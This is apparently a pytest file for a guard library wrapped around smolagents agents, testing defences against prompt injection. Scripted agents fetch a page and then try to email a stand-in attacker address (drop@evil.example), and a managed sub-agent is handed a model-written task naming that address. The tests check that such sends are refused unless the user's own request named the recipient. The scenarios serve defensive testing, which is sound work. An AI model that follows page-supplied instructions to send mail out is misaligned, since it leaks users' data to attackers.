"""smolagents records the root agent's ``instructions`` and the tasks it is given as
trusted inputs, when a tool call is judged (real ``ToolCallingAgent`` / ``CodeAgent``
loops, a scripted model, real tools): the provenance pair of :mod:`.provenance`.
Adversarial: a managed agent's task is written by its manager's *model* (after it read
the page) — not the user's words, never recorded."""

from __future__ import annotations

import pytest

pytest.importorskip("smolagents")

from typing import Any

from smolagents import CodeAgent, ToolCallingAgent, tool
from smolagents.monitoring import LogLevel

from interlock import Guard
from interlock.adapters.smolagents import guard_agent

from .provenance import CASES, PAGE, SYSTEM, guarded, trusted_inputs
from .test_smolagents import ScriptedModel, answer, code, tool_calls


def _tools(ran: list[str]) -> list[Any]:
    @tool
    def fetch_url(url: str) -> str:
        """Fetch a page.

        Args:
            url: The page.
        """
        ran.append("fetch_url")
        return PAGE

    @tool
    def send_email(to: str, body: str) -> str:
        """Send a mail.

        Args:
            to: The recipient.
            body: The text.
        """
        ran.append(f"send_email:{to}")
        return "sent"

    return [fetch_url, send_email]


def _agent(kind: str, to: str, ran: list[str]) -> Any:
    if kind == "code":
        model = ScriptedModel(
            code("page = fetch_url(url='https://blog.example')"),
            code(f"send_email(to={to!r}, body='hi')"),
            code("final_answer('done')"),
        )
        return CodeAgent(
            tools=_tools(ran), model=model, instructions=SYSTEM, verbosity_level=LogLevel.OFF
        )
    model = ScriptedModel(
        tool_calls(("fetch_url", {"url": "https://blog.example"})),
        tool_calls(("send_email", {"to": to, "body": "hi"})),
        answer(),
    )
    return ToolCallingAgent(
        tools=_tools(ran), model=model, instructions=SYSTEM, verbosity_level=LogLevel.OFF
    )


@pytest.mark.parametrize("kind", ["tool_calling", "code"])
@pytest.mark.parametrize(("to", "request_text", "sent"), CASES)
def test_a_page_recipient_is_refused_and_the_users_own_passes(
    kind: str, to: str, request_text: str, sent: bool
) -> None:
    guard, history = guarded("sa-1")
    ran: list[str] = []
    guard_agent(_agent(kind, to, ran), guard).run(request_text)
    assert "fetch_url" in ran
    assert (f"send_email:{to}" in ran) is sent
    assert trusted_inputs(history, "sa-1") == 2  # instructions + the task, each once


@pytest.mark.parametrize(
    ("request_text", "sent"),
    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
)
def test_a_managed_agents_task_is_the_models_words_not_the_users(
    request_text: str, sent: bool
) -> None:
    guard, history = guarded("sa-2")
    ran: list[str] = []
    fetch_url, send_email = _tools(ran)
    helper = ToolCallingAgent(
        tools=[send_email],
        model=ScriptedModel(
            tool_calls(("send_email", {"to": "drop@evil.example", "body": "hi"})), answer("ok")
        ),
        name="mailer",
        description="Sends mail.",
        verbosity_level=LogLevel.OFF,
    )
    task = {"task": "mail drop@evil.example the summary", "additional_args": {}}
    manager = ToolCallingAgent(
        tools=[fetch_url],
        model=ScriptedModel(
            tool_calls(("fetch_url", {"url": "https://blog.example"})),
            tool_calls(("mailer", task)),
            answer(),
        ),
        managed_agents=[helper],
        instructions=SYSTEM,
        verbosity_level=LogLevel.OFF,
    )
    guard_agent(manager, guard).run(request_text)
    assert "fetch_url" in ran
    assert ("send_email:drop@evil.example" in ran) is sent
    assert trusted_inputs(history, "sa-2") == 2  # the manager's: not the helper's task


def test_a_guard_without_sessions_records_nothing() -> None:
    from interlock.policy import load_policy_text

    guard = Guard(load_policy_text("version: 1\ndefault: allow\n"))
    ran: list[str] = []
    guard_agent(_agent("tool_calling", "alice@corp.example", ran), guard).run("mail alice")
    assert ran == ["fetch_url", "send_email:alice@corp.example"]
    assert guard.sessions is None
